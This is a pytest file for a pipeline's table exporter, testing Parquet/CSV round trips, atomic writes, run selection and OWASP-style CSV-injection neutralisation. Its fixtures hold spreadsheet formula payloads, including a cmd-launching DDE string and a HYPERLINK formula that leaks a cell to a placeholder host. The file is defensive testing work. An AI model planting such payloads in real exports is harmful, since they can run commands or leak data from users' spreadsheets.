"""Tests of takeup.pipeline.outputs.export (result tables of one run -> Parquet / CSV files).

External references used here:
* pyarrow's Parquet reader (``pandas.read_parquet``) and pandas' CSV reader
  read the files back -- neither shares code with DuckDB's writers;
* Python's ``csv`` module for the raw cell text of the CSV files;
* OWASP Foundation, "CSV Injection"
  (https://owasp.org/www-community/attacks/CSV_Injection): cells beginning
  with ``=``, ``+``, ``-``, ``@``, tab (0x09) or carriage return (0x0D) are
  read as formulas by spreadsheets; prefix them with a single quote.

The warehouse is the invented run of ``tests.test_report.build_warehouse`` with
site names and messages that start with those characters.
"""

from __future__ import annotations

import csv
import io
import os

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest

import takeup.pipeline.outputs.export as export_mod
from takeup.pipeline.outputs.export import ExportError, export_tables
from takeup.schemas.ddl import columns_of
from takeup.schemas.results import RESULT_TABLES
from tests.test_report import RUN, RUN_FAILED, RUN_OLD, build_warehouse

#: OWASP "CSV Injection": characters that start a formula in a spreadsheet cell
OWASP_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

#: site names that a spreadsheet would evaluate (classic payloads from the OWASP page and common practice)
EVIL_SITES = ("=cmd|' /c calc'!A0", "-2+3+cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1+1)", "\tTab site", "\rCR site")
EVIL_MESSAGE = '=HYPERLINK("http://example.invalid/?leak="&A1, "click")'


@pytest.fixture(scope="module")
def con(tmp_path_factory):
    with pytest.MonkeyPatch.context() as mp:
        c = build_warehouse(tmp_path_factory.mktemp("wh"), mp, site_ids=EVIL_SITES)
    c.execute("UPDATE alerts SET message = ? WHERE run_id = ? AND alert_key = 'k0'", [EVIL_MESSAGE, RUN])
    c.execute("UPDATE runs SET message = ? WHERE run_id = ?", ["-1 site skipped", RUN])
    yield c
    c.close()


def _contract_cols(table: str):
    return columns_of(RESULT_TABLES[table])


def _table_rows(con, table: str, run_id: str) -> pd.DataFrame:
    cols = ", ".join(f'"{c.name}"' for c in _contract_cols(table))
    return con.execute(f'SELECT {cols} FROM "{table}" WHERE run_id = ? ORDER BY ALL', [run_id]).df()


def _raw(path) -> str:
    """File text without newline translation (a carriage return inside a cell must survive)."""
    return path.read_bytes().decode("utf-8")


def _neutralised(v):
    """The OWASP rule, written independently of the SQL in takeup.pipeline.outputs.export."""
    if isinstance(v, str) and v[:1] in OWASP_PREFIXES:
        return "'" + v
    return v


# --------------------------------------------------------------------------
# round trips
# --------------------------------------------------------------------------
def test_parquet_round_trip_of_latest_finished_run(con, tmp_path):
    paths = export_tables(con, tmp_path / "out")
    assert [p.name for p in paths] == [f"{t}.parquet" for t in RESULT_TABLES]
    assert sorted(os.listdir(tmp_path / "out")) == sorted(p.name for p in paths)   # no temp files left
    for table, path in zip(RESULT_TABLES, paths):
        names = [c.name for c in _contract_cols(table)]
        cols = ", ".join(f'"{n}"' for n in names)
        # DuckDB's Python values (date, datetime, float, int, bool, str, None) for the run's rows
        want = con.execute(f'SELECT {cols} FROM "{table}" WHERE run_id = ? ORDER BY ALL', [RUN]).fetchall()
        assert len(want) > 0, table                    # every table has rows for the run: a real comparison
        got = pq.read_table(path)                      # pyarrow's reader
        assert got.schema.names == names
        # values unchanged in Parquet (no neutralisation: it is not a spreadsheet format)
        assert [tuple(r.values()) for r in got.to_pylist()] == want, table
    runs = pd.read_parquet(paths[0])
    assert runs["run_id"].tolist() == [RUN]            # the newer run failed: latest *finished* run is RUN
    assert EVIL_SITES[0] in set(pd.read_parquet(tmp_path / "out" / "site_estimates.parquet")["site_id"])


def test_csv_round_trip_numeric_stays_numeric_text_neutralised(con, tmp_path):
    paths = export_tables(con, tmp_path / "csv", fmt="CSV")
    assert [p.name for p in paths] == [f"{t}.csv" for t in RESULT_TABLES]
    for table, path in zip(RESULT_TABLES, paths):
        want = _table_rows(con, table, RUN)
        got = pd.read_csv(path, keep_default_na=False, na_values=[""])
        assert list(got.columns) == [c.name for c in _contract_cols(table)]
        assert len(got) == len(want) > 0
        for c in _contract_cols(table):
            g, w = got[c.name], want[c.name]
            if c.sql_type in ("DOUBLE", "BIGINT"):
                assert pd.api.types.is_numeric_dtype(g), (table, c.name, g.dtype)
                # DuckDB writes the shortest round-trip decimal form, so values come back bit-identical
                np.testing.assert_array_equal(g.to_numpy(dtype=float), pd.to_numeric(w).to_numpy(dtype=float),
                                              err_msg=f"{table}.{c.name}")
            elif c.sql_type == "VARCHAR":
                expect = [None if v is None or (isinstance(v, float) and np.isnan(v)) else _neutralised(v)
                          for v in w.astype(object)]
                seen = [None if isinstance(v, float) and np.isnan(v) else v for v in g.astype(object)]
                assert seen == expect, (table, c.name)
            elif c.sql_type == "BOOLEAN":
                assert g.tolist() == w.tolist(), (table, c.name)
            else:  # DATE / TIMESTAMP: same missing cells, same instants elsewhere
                gd, wd = pd.to_datetime(g), pd.to_datetime(w)
                assert (gd.isna() == wd.isna()).all(), (table, c.name)
                assert (gd[wd.notna()] == wd[wd.notna()]).all(), (table, c.name)


def test_csv_cells_cannot_start_a_formula(con, tmp_path):
    export_tables(con, tmp_path / "csv", fmt="csv")
    text_cols_of = {t: {c.name for c in _contract_cols(t) if c.sql_type == "VARCHAR"} for t in RESULT_TABLES}
    checked = 0
    for table in RESULT_TABLES:
        raw = _raw(tmp_path / "csv" / f"{table}.csv")
        reader = csv.DictReader(io.StringIO(raw, newline=""))
        for row in reader:
            for col in text_cols_of[table]:
                cell = row[col]
                assert cell[:1] not in OWASP_PREFIXES, (table, col, cell)
                checked += 1
    assert checked > 100
    raw = _raw(tmp_path / "csv" / "site_estimates.csv")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert {r["site_id"] for r in rows} == {"'" + s for s in EVIL_SITES}
    alerts = list(csv.DictReader(io.StringIO(_raw(tmp_path / "csv" / "alerts.csv"),
                                             newline="")))
    assert "'" + EVIL_MESSAGE in {r["message"] for r in alerts}
    runs = list(csv.DictReader(io.StringIO(_raw(tmp_path / "csv" / "runs.csv"),
                                           newline="")))
    assert runs[0]["message"] == "'-1 site skipped"
    # negative numbers are numbers, not text: written bare (no quote, no apostrophe)
    weak = next(r for r in rows if r["site_id"] == "'" + EVIL_SITES[3])
    assert weak["cace_ci_low"].startswith("-") and float(weak["cace_ci_low"]) == pytest.approx(4.0 - 1.96 * 3.2,
                                                                                               abs=1e-12)
    assert ",-2.272" in raw


# --------------------------------------------------------------------------
# run selection and errors
# --------------------------------------------------------------------------
def test_explicit_run_and_empty_tables(con, tmp_path):
    paths = export_tables(con, tmp_path / "old", run_id=RUN_OLD)
    runs = pd.read_parquet(paths[0])
    assert runs["run_id"].tolist() == [RUN_OLD]
    se = pd.read_parquet(tmp_path / "old" / "site_estimates.parquet")
    assert set(se["run_id"]) == {RUN_OLD} and len(se) == 6
    # the old run's estimates were inserted 0.5 below the latest run's
    latest = _table_rows(con, "site_estimates", RUN).set_index("site_id")["cace"]
    np.testing.assert_allclose(se.set_index("site_id")["cace"].loc[latest.index], latest - 0.5, rtol=0, atol=1e-12)
    pooled = pd.read_parquet(tmp_path / "old" / "pooled_estimates.parquet")
    assert len(pooled) == 0 and list(pooled.columns) == [c.name for c in _contract_cols("pooled_estimates")]
    # a failed run can still be exported when asked for by id (its runs row says why it failed)
    paths = export_tables(con, tmp_path / "failed", fmt="csv", run_id=RUN_FAILED)
    assert pd.read_csv(paths[0])["status"].tolist() == ["failed"]


def test_unknown_format_names_nearest(con, tmp_path):
    with pytest.raises(ValueError, match="did you mean 'csv'"):
        export_tables(con, tmp_path / "x", fmt="cvs")
    with pytest.raises(ValueError, match="did you mean 'parquet'"):
        export_tables(con, tmp_path / "x", fmt="parket")
    with pytest.raises(ValueError, match=r"did you mean '(csv|parquet)'\?.*Accepted formats: parquet, csv"):
        export_tables(con, tmp_path / "x", fmt="xlsx")
    assert not (tmp_path / "x").exists()


def test_unknown_run_and_no_run(con, tmp_path, monkeypatch):
    with pytest.raises(ExportError, match="unknown run 'nope'"):
        export_tables(con, tmp_path / "x", run_id="nope")
    with pytest.raises(ExportError, match=f"did you mean '{RUN}'"):
        export_tables(con, tmp_path / "x", run_id=RUN[:-1] + "5")
    assert not (tmp_path / "x").exists()
    empty = build_warehouse(tmp_path / "empty", monkeypatch, with_runs=False)
    with pytest.raises(ExportError, match="no runs yet"):
        export_tables(empty, tmp_path / "y")
    empty.close()


def test_writes_are_atomic(con, tmp_path, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()
    (out / "pooled_estimates.parquet").write_bytes(b"previous export")
    real_replace = os.replace
    calls = []

    def failing_replace(src, dst):
        calls.append(dst)
        if str(dst).endswith("pooled_estimates.parquet"):
            raise OSError("disk full (simulated)")
        return real_replace(src, dst)

    monkeypatch.setattr(export_mod.os, "replace", failing_replace)
    with pytest.raises(OSError, match="simulated"):
        export_tables(con, out)
    # the file being written when the failure happened keeps its old content; no temp file is left
    assert (out / "pooled_estimates.parquet").read_bytes() == b"previous export"
    assert not [p for p in os.listdir(out) if p.endswith(".tmp")]
    assert sorted(os.listdir(out)) == ["complier_profile.parquet", "pooled_estimates.parquet", "runs.parquet",
                                       "site_estimates.parquet"]
    monkeypatch.setattr(export_mod.os, "replace", real_replace)
    export_tables(con, out)
    assert pd.read_parquet(out / "pooled_estimates.parquet")["run_id"].unique().tolist() == [RUN]
